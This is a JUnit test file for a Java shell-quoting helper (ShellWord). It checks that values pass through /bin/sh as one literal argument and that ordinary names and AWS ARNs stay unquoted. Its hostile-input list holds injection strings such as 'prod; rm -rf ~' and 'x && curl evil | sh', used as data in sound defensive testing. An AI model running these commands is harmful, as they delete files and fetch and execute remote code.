package io.trailtailor.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellWordTest {

    static Stream<String> hostile() {
        // A shell argument cannot hold NUL; everything else must come back as it went in.
        return Stream.concat(
                        HostileValues.ALL.stream(),
                        Stream.of("prod; rm -rf ~", "a'b", "'", "x && curl evil | sh", "~root", "*", "!!"))
                .filter(v -> v.indexOf('\u0000') < 0);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void aRealShellSeesExactlyOneArgumentEqualToTheValue(String value) throws Exception {
        assertThat(shellPrint(ShellWord.of(value))).isEqualTo("1:" + value);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "prod-eks",
                "arn:aws:iam::111122223333:role/ci-deployer",
                "arn:aws:eks::aws:cluster-access-policy/AmazonEKSEditPolicy",
                "type=namespace,namespaces=shop,batch",
                "trailtailor:ci-deployer",
                "user+ops@example.com"
            })
    void leavesOrdinaryNamesAndArnsUnquoted(String value) {
        assertThat(ShellWord.of(value)).isSameAs(value);
    }

    @Test
    void quotesTheEmptyString() {
        assertThat(ShellWord.of("")).isEqualTo("''");
    }

    /** Runs {@code /bin/sh} on {@code printf '%s:%s' $# <word>} and returns what it printed. */
    private static String shellPrint(String word) throws IOException, InterruptedException {
        Process p = new ProcessBuilder("/bin/sh", "-c", "set -- " + word + "; printf '%s:%s' \"$#\" \"$1\"")
                .redirectErrorStream(true)
                .start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor()).isZero();
        return out;
    }
}
